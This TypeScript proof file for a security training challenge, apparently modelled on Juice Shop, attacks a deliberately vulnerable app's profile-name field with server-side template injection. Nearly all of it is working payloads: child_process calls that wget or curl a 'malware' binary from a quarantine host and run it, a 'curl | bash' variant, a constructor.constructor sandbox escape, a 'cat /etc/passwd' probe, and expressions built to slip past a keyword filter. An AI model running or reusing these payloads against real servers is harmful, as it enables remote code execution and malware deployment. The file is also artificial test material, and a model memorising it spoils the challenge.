import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const INTERNAL_PATH = 'http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
const WORMS = 'http://cellar.internal/quarantine/'
const CHILD = "process.mainModule.require('child_process')"

/** Submits a form of the account page. */
function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
}

/** Returns the name on the account page. */
async function shown(attacker: Attacker, username: string): Promise<string> {
  await send(attacker, '/profile', { username })
  const { text } = await attacker.get('/profile')
  return /class="user-name">([\s\S]{0,1000}?)<\/p>/.exec(text)?.[1] ?? ''
}

/** Sets the name of a new account and requests its page. */
const named =
  (username: string): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await shown(attacker, username)
  }

/** Shell command that makes the server download a program and run it. */
const worm = (name: string) => `wget -O malware ${WORMS}${name} && chmod +x malware && ./malware`

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    const result = await shown(attacker, '#{7*7}')
    if (!result.includes('49')) throw new Error('The server does not evaluate names.')
    const shortcut = await attacker.get('/ftp/quarantine/juicy_malware_linux_amd_64.url')
    const [, address] = /^URL=(.+)$/m.exec(shortcut.text)!
    const command = `wget -O malware ${address!.trim()} && chmod +x malware && ./malware`
    await shown(attacker, `#{global.process.mainModule.require('child_process').exec('${command}')}`)
  },
  spellings: {
    'and waiting for it': named(`#{${CHILD}.execSync('${worm('juicy_malware_linux_amd_64')}').toString()}`),
    'the worm for other processors': named(`#{${CHILD}.execSync('${worm('juicy_malware_linux_arm_64')}')}`),
    'the worm for another system, which is a script as well': named(
      `#{${CHILD}.execSync('${worm('juicy_malware_macos_64')}')}`,
    ),
    'downloaded by curl, started by bash': named(
      `#{${CHILD}.execSync('curl -s ${WORMS}juicy_malware_macos_64 | bash')}`,
    ),
    'without a worm, by curl': named(`#{${CHILD}.execSync('curl -s "${INTERNAL_PATH}"')}`),
    'without a shell': named(`#{fetch('${INTERNAL_PATH}').then((answer) => answer.status)}`),
    'by a client of the language': named(`#{require('http').get('${INTERNAL_PATH}')}`),
    'by require at hand': named(`#{require('child_process').exec('curl "${INTERNAL_PATH}"')}`),
    'by the constructor of a constructor': named(
      `#{''.constructor.constructor("return process")().mainModule.require('child_process').execSync('curl -s "${INTERNAL_PATH}"')}`,
    ),
    'by a function that calls itself': named(
      `#{(() => { const all = []; all.push(${CHILD}.spawnSync('curl', ['${INTERNAL_PATH}'])); return 1 })()}`,
    ),
    'written to a file first': named(
      `#{require('fs').writeFileSync('/tmp/k.sh', 'curl -s "${INTERNAL_PATH}"'); require('child_process').execSync('bash /tmp/k.sh')}`,
    ),
    'download and start in two names': async (attacker) => {
      await attacker.becomeCustomer()
      await shown(attacker, `#{${CHILD}.execSync('wget -qO /tmp/w ${WORMS}juicy_malware_linux_amd_64')}`)
      await shown(attacker, `#{${CHILD}.execSync('chmod +x /tmp/w; /tmp/w')}`)
    },
  },
  nearMisses: {
    'an ordinary name': named('Quince & Co. #7'),
    'a sum': named('#{7*7}'),
    'a look around': named(`#{${CHILD}.execSync('id; cat /etc/passwd').toString()}`),
    'the worm, downloaded and not started': named(
      `#{${CHILD}.execSync('wget -O malware ${WORMS}juicy_malware_linux_amd_64 && chmod +x malware')}`,
    ),
    'the worm for a machine that this is none': named(`#{${CHILD}.exec('${worm('juicy_malware_windows_64.exe')}')}`),
    'a wrong key': named(`#{fetch('${INTERNAL_PATH}x')}`),
    'the command as text': named(`#{'curl ${INTERNAL_PATH}'}`),
    'the command in a name without a formula': named(`curl ${INTERNAL_PATH}`),
    'in braces of another language': named(`{{fetch('${INTERNAL_PATH}')}}`),
    'in braces of a text': named(`\${fetch('${INTERNAL_PATH}')}`),
    'a formula in the middle of a name': named(`Pip #{fetch('${INTERNAL_PATH}')} Apple`),
    'a formula that fails': named('#{pip(}'),
    'the name, and nobody looks': async (attacker) => {
      await attacker.becomeCustomer()
      await send(attacker, '/profile', { username: `#{fetch('${INTERNAL_PATH}')}` })
    },
    'a sum, then the door from outside': async (attacker) => {
      await named('#{7*7}')(attacker)
      await attacker.get(new URL(INTERNAL_PATH).pathname + new URL(INTERNAL_PATH).search)
    },
    'the door as a picture, which is another hole': async (attacker) => {
      await named('#{7*7}')(attacker)
      await send(attacker, '/profile/image/url', { imageUrl: INTERNAL_PATH })
    },
    'as the code of an order': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/b2b/v2/orders', { cid: 'x', orderLinesData: `fetch('${INTERNAL_PATH}')` })
    },
  },
  bypasses: {
    'refuse-known-words': named(`#{fetch('${INTERNAL_PATH}')}`),
    'hide-the-program': named(`#{(() => {}).constructor("return fetch('${INTERNAL_PATH}')")()}`),
  },
})
